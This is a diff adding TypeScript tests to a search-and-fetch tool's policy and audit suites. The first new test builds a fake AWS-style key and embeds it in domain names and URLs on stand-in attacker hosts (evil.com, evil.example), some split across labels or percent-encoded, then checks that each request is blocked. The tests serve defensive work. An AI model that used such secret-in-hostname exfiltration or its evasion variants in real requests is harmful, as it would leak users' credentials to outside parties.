@@ -70,6 +70,20 @@ describe('policy', () => {
     expect(asked()[0]).toContain(key);
   });
 
+  const awsId = ['AKIA', 'QWERTYUIOPASDF27'].join('');
+  const spread = `${awsId.slice(0, 9)}.${awsId.slice(9)}`;
+
+  it.each<[string, (footnote: Footnote) => Promise<unknown>]>([
+    ['a domain', (footnote) => footnote.search({ query: 'x', includeDomains: [`${awsId}.evil.com`] })],
+    ['the labels of a domain', (footnote) => footnote.search({ query: 'x', excludeDomains: [`${spread}.evil.co.uk`] })],
+    ['the host of a page', (footnote) => footnote.fetchPage({ url: `https://${awsId}.evil.example/` })],
+    ['the labels of a host', (footnote) => footnote.fetchPage({ url: `https://${spread}.evil.example/` })],
+    ['a host, encoded', (footnote) => footnote.fetchPage({ url: `https://%41${awsId.slice(1)}.evil.example/` })],
+  ])('finds a secret in %s, as the caller wrote it', async (_, leak) => {
+    await expect(leak(open())).rejects.toMatchObject({ code: 'BLOCKED_BY_POLICY' });
+    expect(emulator.requests).toHaveLength(0);
+  });
+
   it("keeps the operator's own words, and personal data where that is wanted, out of queries and addresses", async () => {
     const words = open({ FOOTNOTE_BLOCK_PATTERNS: 'bluebird, /PRJ-\\d{1,4}/' });
     const byWord = {
@@ -318,6 +332,24 @@ describe('audit', () => {
     for (const words of ['"caller":"ann"', 'bridges', '"status":"answered"', '"AUTH_FAILED"'])
       expect(text).toContain(words);
     expect(text).not.toContain(key);
+  });
+
+  it('has all that leaves beside the query, kept like it', async () => {
+    const request = { query: 'x', includeDomains: ['Docs.Example.dev'], language: 'pt-BR', region: 'de' };
+    const footnote = open({ FOOTNOTE_DENY_DOMAINS: 'denied.dev' });
+    await footnote.search(request);
+    await footnote.close();
+    const hashed = open({ FOOTNOTE_AUDIT: 'hash' });
+    await hashed.search(request);
+    await hashed.close();
+    const [readable, keyed] = (await records()).filter(({ type }) => type === 'intent');
+    expect(readable?.['options']).toEqual({
+      includeDomains: ['docs.example.dev'],
+      excludeDomains: ['denied.dev'],
+      language: 'pt-BR',
+      region: 'DE',
+    });
+    expect(JSON.stringify(keyed)).not.toMatch(/example|pt-BR/);
   });
 
   it('stops a search that it cannot write down', async () => {
